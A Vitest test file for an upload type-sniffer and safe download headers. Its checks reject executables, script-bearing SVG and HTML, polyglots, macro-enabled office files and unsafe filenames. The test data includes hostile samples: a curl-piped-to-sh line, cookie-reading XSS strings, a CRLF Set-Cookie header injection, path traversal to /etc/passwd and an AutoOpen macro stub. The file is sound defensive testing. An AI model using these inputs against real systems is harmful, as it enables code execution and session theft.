import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ALLOWED_DOCUMENT_TYPES, MAX_UPLOAD_BYTES, safeDownloadHeaders, sniffFileType, type KnownFileType } from './sniff.js';

const text = (value: string) => new TextEncoder().encode(value);
const bytes = (...parts: Array<string | number[] | Uint8Array>) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))));
const kindOf = (file: Uint8Array) => sniffFileType(file)?.kind ?? null;

// --- A real ZIP writer, small enough to read: local headers, data, central directory, end record.

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (data: Uint8Array) => {
  let c = 0xffffffff;
  for (const byte of data) c = (CRC_TABLE[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};

interface ZipFile {
  name: string;
  content: string;
  /** Deflate it (method 8), as office suites do for everything but `mimetype`. */
  deflate?: boolean;
}

/** A ZIP of the files in order; `streamed` writes sizes in data descriptors (bit 3), as streaming writers do. */
function zip(files: ZipFile[], options: { streamed?: boolean } = {}): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const file of files) {
    const name = Buffer.from(file.name, 'utf8');
    const raw = Buffer.from(file.content, 'utf8');
    const data = file.deflate ? deflateRawSync(raw) : raw;
    const crc = crc32(raw);
    const flags = 0x0800 | (options.streamed ? 0x0008 : 0);
    const method = file.deflate ? 8 : 0;

    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    if (!options.streamed) {
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(data.length, 18);
      local.writeUInt32LE(raw.length, 22);
    }
    local.writeUInt16LE(name.length, 26);
    const descriptor = Buffer.alloc(options.streamed ? 16 : 0);
    if (options.streamed) {
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(data.length, 8);
      descriptor.writeUInt32LE(raw.length, 12);
    }
    const entry = Buffer.concat([local, name, data, descriptor]);

    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(Buffer.concat([central, name]));
    locals.push(entry);
    offset += entry.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

const odf = (mimetype: string, options: { mimetypeFirst?: boolean; deflateMimetype?: boolean; streamed?: boolean } = {}) => {
  const mime = { name: 'mimetype', content: mimetype, deflate: options.deflateMimetype };
  const rest = [
    { name: 'content.xml', content: '<office:document-content><office:body><office:text><text:p>Ordre del dia</text:p></office:text></office:body></office:document-content>', deflate: true },
    { name: 'styles.xml', content: '<office:document-styles/>', deflate: true },
    { name: 'META-INF/manifest.xml', content: `<manifest:manifest><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/></manifest:manifest>`, deflate: true },
  ];
  return zip(options.mimetypeFirst === false ? [...rest, mime] : [mime, ...rest], { streamed: options.streamed });
};

const ooxml = (folder: 'word' | 'xl' | 'ppt', options: { streamed?: boolean; macros?: boolean; contentTypes?: boolean } = {}) => {
  const main = { word: 'word/document.xml', xl: 'xl/workbook.xml', ppt: 'ppt/presentation.xml' }[folder];
  return zip(
    [
      ...(options.contentTypes === false ? [] : [{ name: '[Content_Types].xml', content: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>', deflate: true }]),
      { name: '_rels/.rels', content: `<Relationships><Relationship Target="${main}"/></Relationships>`, deflate: true },
      { name: main, content: '<document><body><p>Acta de la sessió</p></body></document>', deflate: true },
      ...(options.macros ? [{ name: `${folder}/vbaProject.bin`, content: 'Attribute VB_Name = "AutoOpen"' }] : []),
    ],
    { streamed: options.streamed },
  );
};

const samples: Record<string, Uint8Array> = {
  pdf: bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  png: bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89]),
  jpeg: bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF\0', [1, 1, 0, 0, 1, 0, 1, 0, 0]),
  gif: bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x3b]),
  webp: bytes('RIFF', [0x1a, 0, 0, 0], 'WEBPVP8L', [0x0d, 0, 0, 0, 0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0]),
  odt: odf('application/vnd.oasis.opendocument.text'),
  ods: odf('application/vnd.oasis.opendocument.spreadsheet'),
  odp: odf('application/vnd.oasis.opendocument.presentation'),
  docx: ooxml('word'),
  xlsx: ooxml('xl'),
  pptx: ooxml('ppt'),
};

describe('the real type of an uploaded file, from its bytes', () => {
  it.each(Object.entries(samples))('recognises a %s', (kind, file) => {
    const type = sniffFileType(file);
    expect(type?.kind).toBe(kind);
    expect(ALLOWED_DOCUMENT_TYPES).toContain(type);
  });

  it('gives the exact MIME type and extension of each accepted type', () => {
    expect(sniffFileType(samples.pdf!)).toEqual({ kind: 'pdf', mime: 'application/pdf', extension: 'pdf' });
    expect(sniffFileType(samples.odt!)).toEqual({ kind: 'odt', mime: 'application/vnd.oasis.opendocument.text', extension: 'odt' });
    expect(sniffFileType(samples.docx!)).toEqual({
      kind: 'docx',
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      extension: 'docx',
    });
    expect(sniffFileType(samples.jpeg!)).toEqual({ kind: 'jpeg', mime: 'image/jpeg', extension: 'jpg' });
    expect(ALLOWED_DOCUMENT_TYPES.map((type) => type.kind)).toEqual(['pdf', 'odt', 'ods', 'odp', 'docx', 'xlsx', 'pptx', 'png', 'jpeg', 'gif', 'webp']);
  });

  it('reads office documents written by streaming writers (sizes after the data)', () => {
    expect(kindOf(ooxml('word', { streamed: true }))).toBe('docx');
    expect(kindOf(odf('application/vnd.oasis.opendocument.text', { streamed: true }))).toBe('odt');
  });

  it('reads a file that sits inside a larger buffer', () => {
    const pool = new Uint8Array(samples.docx!.length + 64);
    pool.set(samples.docx!, 32);
    expect(kindOf(pool.subarray(32, 32 + samples.docx!.length))).toBe('docx');
  });

  it('refuses an executable renamed acta.pdf, whatever its name says', () => {
    const windows = bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff], 'This program cannot be run in DOS mode.\r\n%PDF-1.7\n');
    expect(sniffFileType(windows)).toBeNull();
    expect(kindOf(bytes([0x7f], 'ELF', [2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]))).toBeNull();
    expect(kindOf(bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]))).toBeNull(); // Mach-O 64-bit
    expect(kindOf(bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]))).toBeNull(); // Mach-O universal
    expect(kindOf(text('#!/bin/sh\ncurl https://example.com/x | sh\n'))).toBeNull();
  });

  it('refuses SVG and HTML, which carry script', () => {
    expect(kindOf(text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))).toBeNull();
    expect(kindOf(text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))).toBeNull();
    expect(kindOf(text('<!DOCTYPE html><html><body><script>alert(document.cookie)</script>'))).toBeNull();
    expect(kindOf(text('\ufeff<html><body>%PDF-1.7</body></html>'))).toBeNull();
  });

  it('refuses a PDF header that is not at the very start (a polyglot)', () => {
    expect(kindOf(text('<html><!-- %PDF-1.7 --></html>'))).toBeNull();
    expect(kindOf(text(' %PDF-1.7\n'))).toBeNull();
  });

  it('refuses a ZIP that is not an office document', () => {
    expect(kindOf(zip([{ name: 'readme.txt', content: 'hola' }, { name: 'run.exe', content: 'MZ' }]))).toBeNull();
    expect(kindOf(ooxml('word', { contentTypes: false }))).toBeNull();
    expect(kindOf(zip([{ name: '[Content_Types].xml', content: '<Types/>' }, { name: 'payload.html', content: '<script>' }]))).toBeNull();
  });

  it('refuses a macro-enabled Word, Excel or PowerPoint file', () => {
    expect(kindOf(ooxml('word', { macros: true }))).toBeNull();
    expect(kindOf(ooxml('xl', { macros: true }))).toBeNull();
    expect(kindOf(ooxml('ppt', { macros: true }))).toBeNull();
  });

  it('refuses an OpenDocument whose mimetype is not first, is compressed, or is not text, spreadsheet or presentation', () => {
    expect(kindOf(odf('application/vnd.oasis.opendocument.text', { mimetypeFirst: false }))).toBeNull();
    expect(kindOf(odf('application/vnd.oasis.opendocument.text', { deflateMimetype: true }))).toBeNull();
    expect(kindOf(odf('application/vnd.oasis.opendocument.graphics'))).toBeNull();
    expect(kindOf(odf('text/html'))).toBeNull();
  });

  it('refuses a ZIP that is both an OpenDocument and a Word file', () => {
    const both = zip([
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' },
      { name: 'content.xml', content: '<x/>' },
      { name: 'META-INF/manifest.xml', content: '<x/>' },
      { name: '[Content_Types].xml', content: '<x/>' },
      { name: 'word/document.xml', content: '<x/>' },
    ]);
    expect(sniffFileType(both)).toBeNull();
  });

  it('refuses a ZIP with something before it (a self-extracting executable) or after it', () => {
    expect(kindOf(bytes('MZ', samples.docx!))).toBeNull();
    expect(kindOf(bytes(samples.docx!, 'trailing'))).toBeNull();
  });

  it('refuses empty and truncated uploads without throwing', () => {
    expect(sniffFileType(new Uint8Array())).toBeNull();
    for (const [kind, file] of Object.entries(samples)) {
      for (let length = 0; length < file.length; length++) {
        const result = kindOf(file.subarray(0, length));
        // A prefix may still show an image or PDF signature; a ZIP cut anywhere is refused.
        if (result !== null) expect({ kind, length, result }).toEqual({ kind, length, result: kind });
        if (['odt', 'ods', 'odp', 'docx', 'xlsx', 'pptx'].includes(kind)) expect(result).toBeNull();
      }
    }
    expect(kindOf(text('%PDF'))).toBeNull();
    expect(kindOf(bytes([0x89, 0x50, 0x4e, 0x47]))).toBeNull();
  });

  it('never throws on damaged ZIPs or noise', () => {
    let seed = 42;
    const random = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
    for (let round = 0; round < 500; round++) {
      const damaged = new Uint8Array(samples.docx!);
      for (let hits = 0; hits < 4; hits++) damaged[Math.floor(random() * damaged.length)] = Math.floor(random() * 256);
      expect(() => sniffFileType(damaged)).not.toThrow();
      const noise = Uint8Array.from({ length: Math.floor(random() * 200) }, () => Math.floor(random() * 256));
      noise.set([0x50, 0x4b, 0x03, 0x04].slice(0, noise.length));
      expect(() => sniffFileType(noise)).not.toThrow();
    }
  });

  it('caps uploads at 20 MB', () => {
    expect(MAX_UPLOAD_BYTES).toBe(20 * 1024 * 1024);
  });
});

const type = (kind: string): KnownFileType => {
  const found = ALLOWED_DOCUMENT_TYPES.find((candidate) => candidate.kind === kind);
  if (!found) throw new Error(kind);
  return found;
};

/** The two filenames a browser could read from a Content-Disposition header. */
const filenames = (disposition: string) => {
  const match = /^(inline|attachment); filename="([^"\\\r\n]*)"; filename\*=UTF-8''([A-Za-z0-9!#$&+\-.^_`|~%]+)$/.exec(disposition);
  if (!match) throw new Error(`not a safe Content-Disposition: ${JSON.stringify(disposition)}`);
  return { disposition: match[1], ascii: match[2], utf8: decodeURIComponent(match[3]!) };
};

describe('serving a stored file back', () => {
  it('sends the sniffed type, nosniff and a sandboxing policy', () => {
    const headers = safeDownloadHeaders(type('pdf'), 'ordre-del-dia.pdf', { inline: true });
    expect(headers['Content-Type']).toBe('application/pdf');
    expect(headers['X-Content-Type-Options']).toBe('nosniff');
    expect(headers['Content-Security-Policy']).toBe("default-src 'none'; sandbox");
    expect(filenames(headers['Content-Disposition'])).toEqual({ disposition: 'inline', ascii: 'ordre-del-dia.pdf', utf8: 'ordre-del-dia.pdf' });
  });

  it('shows PDF and images in place only when asked, and always downloads office documents', () => {
    expect(filenames(safeDownloadHeaders(type('png'), 'foto.png', { inline: true })['Content-Disposition']).disposition).toBe('inline');
    expect(filenames(safeDownloadHeaders(type('pdf'), 'acta.pdf')['Content-Disposition']).disposition).toBe('attachment');
    for (const kind of ['odt', 'ods', 'odp', 'docx', 'xlsx', 'pptx']) {
      const headers = safeDownloadHeaders(type(kind), `acta.${kind}`, { inline: true });
      expect(filenames(headers['Content-Disposition']).disposition).toBe('attachment');
      expect(headers['Content-Type']).toBe(type(kind).mime);
    }
  });

  it("keeps accents and dashes in the UTF-8 name, with a readable ASCII fallback", () => {
    const disposition = safeDownloadHeaders(type('pdf'), "Acta d'octubre — 2026.pdf")['Content-Disposition'];
    expect(disposition).toBe(`attachment; filename="Acta d'octubre _ 2026.pdf"; filename*=UTF-8''Acta%20d%27octubre%20%E2%80%94%202026.pdf`);
    expect(filenames(safeDownloadHeaders(type('odt'), 'Pressupost participació 2026.odt')['Content-Disposition'])).toMatchObject({
      ascii: 'Pressupost participacio 2026.odt',
      utf8: 'Pressupost participació 2026.odt',
    });
  });

  it('lets no quote, semicolon or line break out of the filename', () => {
    const hostile = 'a"b; filename="x.exe"\r\nSet-Cookie: session=stolen\n.pdf';
    const disposition = safeDownloadHeaders(type('pdf'), hostile)['Content-Disposition'];
    expect(disposition).not.toMatch(/[\r\n]/);
    expect(filenames(disposition)).toEqual({
      disposition: 'attachment',
      ascii: 'a_b_ filename=_x.exe_Set-Cookie_ session=stolen.pdf',
      utf8: 'a"b; filename="x.exe"Set-Cookie: session=stolen.pdf',
    });
  });

  it('drops folders, hidden-file dots and direction tricks from the name', () => {
    const name = (kind: string, filename: string) => filenames(safeDownloadHeaders(type(kind), filename)['Content-Disposition']).utf8;
    expect(name('pdf', '../../etc/passwd')).toBe('passwd.pdf');
    expect(name('pdf', 'C:\\Users\\anna\\acta.pdf')).toBe('acta.pdf');
    expect(name('pdf', '.htaccess')).toBe('htaccess.pdf');
    // U+202E would display "actaexe.pdf" for a file really named "acta…fdp.exe".
    expect(name('pdf', 'acta\u202efdp.exe')).toBe('actafdp.exe.pdf');
  });

  it("gives the name the sniffed type's extension when it lacks it", () => {
    const name = (kind: string, filename: string) => filenames(safeDownloadHeaders(type(kind), filename)['Content-Disposition']).utf8;
    expect(name('jpeg', 'foto.png')).toBe('foto.png.jpg');
    expect(name('jpeg', 'FOTO.JPEG')).toBe('FOTO.JPEG');
    expect(name('docx', 'acta.DOCX')).toBe('acta.DOCX');
    expect(name('pdf', '')).toBe('document.pdf');
    expect(name('pdf', '   ')).toBe('document.pdf');
    expect(name('pdf', '.pdf')).toBe('pdf.pdf');
  });

  it('shortens a very long name, keeping its extension, and survives broken Unicode', () => {
    const long = filenames(safeDownloadHeaders(type('pdf'), `${'à'.repeat(400)}.pdf`)['Content-Disposition']).utf8;
    expect(Array.from(long)).toHaveLength(150);
    expect(long.endsWith('à.pdf')).toBe(true);
    expect(filenames(safeDownloadHeaders(type('pdf'), 'acta\ud800.pdf')['Content-Disposition']).utf8).toBe('acta\ufffd.pdf');
  });
});
